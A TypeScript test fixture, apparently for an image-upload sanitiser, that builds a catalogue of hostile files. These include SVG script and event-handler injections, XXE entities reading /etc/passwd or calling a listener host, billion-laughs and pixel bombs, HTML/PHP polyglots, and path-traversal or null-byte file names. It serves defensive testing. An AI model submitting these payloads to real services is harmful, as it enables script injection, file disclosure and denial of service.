import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { chunk, pngBomb, svg, zipOf } from './formats.ts';

export interface HostileFile {
  readonly name: string;
  readonly fileName: string;
  readonly mimeType: string;
  readonly bytes: Buffer;
  /** `pixels`: may be taken, as what it shows. `refused`: must not be. */
  readonly may: 'pixels' | 'refused';
}

/** Stands in whatever an attack would carry over; no stored byte sequence may hold it. */
export const CANARY = 'CANARY-of-the-upload';
const SCRIPT = `alert('${CANARY}')`;

const noise = (side: number) =>
  sharp({ create: { width: side, height: side, channels: 3, noise: { type: 'gaussian', mean: 128, sigma: 60 }, background: '#fff' } });
const file = (
  name: string,
  bytes: Buffer | string,
  may: HostileFile['may'],
  fileName = 'logo.png',
  mimeType = 'image/png',
): HostileFile => ({
  name,
  bytes: Buffer.from(bytes),
  may,
  fileName,
  mimeType,
});
const drawing = (name: string, inside: string, may: HostileFile['may'] = 'pixels', attributes?: string) =>
  file(`SVG: ${name}`, svg(inside, attributes), may, 'logo.svg', 'image/svg+xml');

const drawingsFor = (listener: string): readonly HostileFile[] => [
  drawing('script element', `<script>${SCRIPT}</script><rect width="60" height="40"/>`),
  drawing('script from elsewhere', `<script href="https://example.com/${CANARY}.js"/><rect width="60" height="40"/>`),
  drawing('onload on the root', '<rect width="60" height="40"/>', 'pixels', `width="60" height="40" onload="${SCRIPT}"`),
  drawing('onclick', `<rect width="60" height="40" onclick="${SCRIPT}"/>`),
  drawing('link with javascript:', `<a xlink:href="javascript:${SCRIPT}"><rect width="60" height="40"/></a>`),
  drawing(
    'foreignObject with HTML',
    `<foreignObject width="60" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe srcdoc="${CANARY}"/><script>${SCRIPT}</script></body></foreignObject><rect width="9" height="9"/>`,
  ),
  drawing('use of a foreign file', `<use href="https://example.com/${CANARY}.svg#a"/><rect width="60" height="40"/>`),
  drawing(
    'use of a data address',
    `<use href="data:image/svg+xml,%3Csvg onload='${CANARY}'%3E%3C/svg%3E#a"/><rect width="60" height="40"/>`,
  ),
  drawing('image of a local file', `<image href="file:///etc/passwd" width="60" height="40"/><rect width="9" height="9"/>`),
  drawing('image of another host', `<image href="http://${listener}/${CANARY}.png" width="60" height="40"/><rect width="9" height="9"/>`),
  drawing('CSS import', `<style>@import url("https://example.com/${CANARY}.css");</style><rect width="60" height="40"/>`),
  drawing(
    'font of another host',
    `<style>@font-face{font-family:x;src:url(http://${listener}/${CANARY})}</style><rect width="9" height="9"/>`,
  ),
  drawing('animation that sets href', `<a><animate attributeName="href" values="javascript:${SCRIPT}"/><rect width="60" height="40"/></a>`),
  drawing('set of an event', `<rect width="60" height="40"><set attributeName="onmouseover" to="${SCRIPT}"/></rect>`),
  drawing(
    'handler element',
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${SCRIPT}</handler><rect width="9" height="9"/>`,
  ),
  drawing('CDATA', `<style><![CDATA[</style><script>${SCRIPT}</script>]]></style><rect width="60" height="40"/>`),
  drawing('words in metadata', `<metadata>${CANARY}</metadata><desc>${CANARY}</desc><rect width="60" height="40"/>`),
  file(
    'SVG: stylesheet instruction',
    `<?xml-stylesheet href="javascript:${SCRIPT}"?>${svg('<rect width="9" height="9"/>')}`,
    'pixels',
    'a.svg',
  ),
  file(
    'SVG: external entity',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&x;</text>')}`,
    'refused',
    'a.svg',
  ),
  file(
    'SVG: parameter entity',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://${listener}/${CANARY}"> %x;]>${svg('<rect/>')}`,
    'refused',
    'a.svg',
    'image/svg+xml',
  ),
  file(
    'SVG: external doctype',
    `<!DOCTYPE svg SYSTEM "http://${listener}/${CANARY}.dtd">${svg('<rect width="9" height="9"/>')}`,
    'pixels',
    'a.svg',
  ),
  file(
    'SVG: XInclude',
    svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/><rect width="9" height="9"/>'),
    'pixels',
    'a.svg',
  ),
  file('SVG: UTF-16', Buffer.from(`\ufeff${svg(`<script>${SCRIPT}</script>`)}`, 'utf16le'), 'refused', 'a.svg', 'image/svg+xml'),
  file('SVG: UTF-7', `+ADw-svg onload+AD0-${SCRIPT}+AD4-`, 'refused', 'a.svg', 'image/svg+xml'),
  file('SVG: compressed', gzipSync(svg(`<script>${SCRIPT}</script>`)), 'refused', 'a.svgz', 'image/svg+xml'),
];

function bombs(): readonly HostileFile[] {
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  const blur = '<feGaussianBlur stdDeviation="90"/><feTurbulence numOctaves="200"/><feMorphology radius="400"/>'.repeat(60);
  const levels = Array.from({ length: 24 }, (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`).join('');
  return [
    file(
      'bomb: billion laughs',
      `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('<text>&l10;</text>')}`,
      'refused',
      'a.svg',
      'image/svg+xml',
    ),
    file('bomb: PNG of 50,000²', pngBomb(50_000), 'refused'),
    file('bomb: PNG of 4 million²', pngBomb(4_000_000), 'refused'),
    file('bomb: PNG of 16,001,000 pixels', pngBomb(4_000, 4_001), 'refused'),
    drawing('bomb of 60,000²', '<rect width="60000" height="60000"/>', 'refused', 'width="60000" height="60000"'),
    drawing('bomb of nested uses', `<defs><g id="a0"><rect width="1" height="1"/></g>${levels}</defs><use href="#a24"/>`, 'refused'),
    drawing(
      'bomb of nested groups',
      `${'<g opacity=".9">'.repeat(200)}<rect width="4000" height="4000"/>${'</g>'.repeat(200)}`,
      'refused',
      'width="4000" height="4000"',
    ),
    drawing(
      'bomb of filters',
      `<filter id="f">${blur}</filter><rect width="3900" height="3900" filter="url(#f)"/>`,
      'refused',
      'width="3900" height="3900"',
    ),
    drawing('deep nesting', `${'<g>'.repeat(50_000)}<rect width="9" height="9"/>${'</g>'.repeat(50_000)}`),
    drawing('use of itself', '<g id="a"><use href="#a"/><rect width="9" height="9"/></g>'),
    drawing('path of 500,000 points', `<path d="M0 0${' L1 1'.repeat(500_000)}" stroke="#000" stroke-dasharray="0.0001"/>`),
    file('bomb: workbook of 100 MB', zipOf('xl/worksheets/sheet1.xml', Buffer.alloc(100_000_000)), 'refused', 'logo.xlsx'),
    file('bomb: workbook called a picture', zipOf('xl/workbook.xml', Buffer.from(CANARY)), 'refused', 'logo.png', 'image/png'),
  ];
}

/** Pictures that are something else too, or say one thing and are another. */
async function polyglots(): Promise<HostileFile[]> {
  const html = `<html><body><script>${SCRIPT}</script></body></html>`;
  const [png, jpeg, gif, webp, tiff, avif] = await Promise.all(
    (['png', 'jpeg', 'gif', 'webp', 'tiff', 'avif'] as const).map((format) => noise(40).toFormat(format).toBuffer()),
  );
  if (!png || !jpeg || !gif || !webp || !tiff || !avif) throw new Error('sharp made no picture.');
  const text = (word: string) => chunk('tEXt', Buffer.from(`Comment\0${word}`));
  const withChunk = (extra: Buffer) => Buffer.concat([png.subarray(0, 33), extra, png.subarray(33)]);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, html.length + 2]), Buffer.from(html)]);
  return [
    file('polyglot: PNG and HTML behind it', Buffer.concat([png, Buffer.from(html)]), 'pixels', 'logo.html', 'image/png'),
    file('polyglot: PNG with HTML in a text chunk', withChunk(text(html)), 'pixels'),
    file(
      'polyglot: PNG with PHP in an unknown chunk',
      withChunk(chunk('phPx', Buffer.from(`<?php ${CANARY} ?>`))),
      'pixels',
      'logo.php.png',
    ),
    file(
      'polyglot: PNG with a profile that is none',
      withChunk(chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(CANARY)]))),
      'pixels',
    ),
    file(
      'polyglot: PNG with 40 MB of packed text',
      withChunk(chunk('zTXt', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(40_000_000, 65))]))),
      'pixels',
    ),
    file(
      'polyglot: GIF and script',
      Buffer.concat([Buffer.from('GIF89a=1;'), Buffer.from(`${SCRIPT};//`)]),
      'refused',
      'logo.gif',
      'image/gif',
    ),
    file('polyglot: GIF and script behind it', Buffer.concat([gif, Buffer.from(`;${SCRIPT}`)]), 'pixels', 'logo.gif', 'image/gif'),
    file(
      'polyglot: JPEG with HTML in a comment',
      Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
      'pixels',
      'logo.jpg',
      'image/jpeg',
    ),
    file('polyglot: JPEG and a zip', Buffer.concat([jpeg, zipOf('a.html', Buffer.from(html))]), 'pixels', 'logo.jar', 'image/jpeg'),
    file('polyglot: PDF before PNG', Buffer.concat([Buffer.from('%PDF-1.7\n'), png]), 'refused'),
    file('polyglot: HTML before PNG', Buffer.concat([Buffer.from(html), png]), 'refused'),
    file('other: HTML', html, 'refused', 'logo.png'),
    file('other: script', SCRIPT, 'refused', 'logo.jpg', 'image/jpeg'),
    file('other: EPS', `%!PS-Adobe-3.0 EPSF-3.0\n(${CANARY}) show`, 'refused', 'logo.png'),
    file('other: MVG', `push graphic-context\nfill 'url(https://example.com/${CANARY})'`, 'refused', 'logo.svg', 'image/svg+xml'),
    file('other: nothing', '', 'refused'),
    file('other: WebP', webp, 'refused', 'logo.png'),
    file('other: TIFF', tiff, 'refused', 'logo.jpg', 'image/jpeg'),
    file('other: AVIF', avif, 'refused', 'logo.jpg', 'image/jpeg'),
    file('other: BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)]), 'refused', 'logo.png'),
    file('other: ELF', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)]), 'refused', 'logo.png'),
    file('lie: GIF called PNG', gif, 'pixels', 'logo.png', 'image/png'),
    file('lie: PNG called SVG', png, 'pixels', 'logo.svg', 'image/svg+xml'),
    file('lie: PNG called HTML', png, 'pixels', 'logo.html', 'text/html'),
    file('lie: PNG without a type', png, 'pixels', 'logo.png', 'application/octet-stream'),
    file('lie: SVG called PNG', svg(`<script>${SCRIPT}</script><rect width="9" height="9"/>`), 'pixels', 'logo.png', 'image/png'),
    ...[
      '../../../../etc/cron.d/x.png',
      '..\\..\\x.png',
      '/etc/passwd',
      'x.png\0.html',
      'logo\u202egnp.exe',
      'CON.png',
      '.htaccess',
      'a'.repeat(5_000),
      `${CANARY}";filename="b.html`,
    ].map((name) => file(`name: ${JSON.stringify(name).slice(0, 40)}`, png, 'pixels', name)),
    file('truncated: PNG', (await noise(400).png().toBuffer()).subarray(0, 100_000), 'refused'),
    file('truncated: JPEG', (await noise(400).jpeg().toBuffer()).subarray(0, 20_000), 'refused', 'logo.jpg', 'image/jpeg'),
    file('truncated: PNG header', png.subarray(0, 20), 'refused'),
    file('truncated: SVG', svg('<rect').slice(0, -8), 'refused', 'logo.svg', 'image/svg+xml'),
    file('broken: PNG with a wrong checksum', Buffer.concat([png.subarray(0, 60), Buffer.from('!!!!'), png.subarray(64)]), 'refused'),
    file('broken: PNG of 0 pixels', pngBomb(0), 'refused'),
    file(
      'broken: JPEG of signatures',
      Buffer.concat(Array.from({ length: 500 }, () => Buffer.from([0xff, 0xd8, 0xff]))),
      'refused',
      'l.jpg',
      'image/jpeg',
    ),
  ];
}

/** Photographs that say where they were taken, and pictures that move for a thousand frames. */
async function photographs(): Promise<HostileFile[]> {
  const gps = {
    IFD0: { Copyright: CANARY, Artist: CANARY },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 0/1', GPSLongitude: '13/1 24/1 0/1' },
  };
  const exif = (format: 'jpeg' | 'png') => noise(60).withExif(gps).toFormat(format).toBuffer();
  const frames = await sharp(Buffer.concat(Array.from({ length: 1_000 }, (_, n) => Buffer.alloc(16 * 16 * 3, n % 250))), {
    raw: { width: 16, height: 16_000, channels: 3, pageHeight: 16 } as never,
  })
    .gif()
    .toBuffer();
  return [
    file('notes: JPEG with a place', await exif('jpeg'), 'pixels', 'logo.jpg', 'image/jpeg'),
    file('notes: PNG with a place', await exif('png'), 'pixels'),
    file('notes: JPEG with a profile', await noise(60).withIccProfile('p3').jpeg().toBuffer(), 'pixels', 'logo.jpg', 'image/jpeg'),
    file('frames: GIF of 1,000', frames, 'pixels', 'logo.gif', 'image/gif'),
  ];
}

/** Ended by their time or memory alone, which takes seconds; `uploads.test.ts` of the platform has them too. */
const SLOW = /bomb of (nested|filters)/;

/** Files that each hold an attack; `all` are more than 100, else about half of them. `listener` is a host and port that none may reach. */
export async function hostileFiles({ all, listener }: { all: boolean; listener: string }): Promise<HostileFile[]> {
  const drawings = drawingsFor(listener);
  const files = [...drawings, ...bombs(), ...(await polyglots()), ...(await photographs())];
  // Those that are taken cost a process each.
  if (!all) return files.filter(({ name, may }, index) => !SLOW.test(name) && (may === 'refused' || index % 2 === 0));
  const disguised = drawings.map((one) => ({
    ...one,
    name: `${one.name}, with a declaration`,
    bytes: Buffer.concat([Buffer.from('<?xml version="1.0"?><!-- x -->\n'), one.bytes]),
  }));
  return [...files, ...disguised.filter(({ name }) => !/UTF|compressed/.test(name))];
}
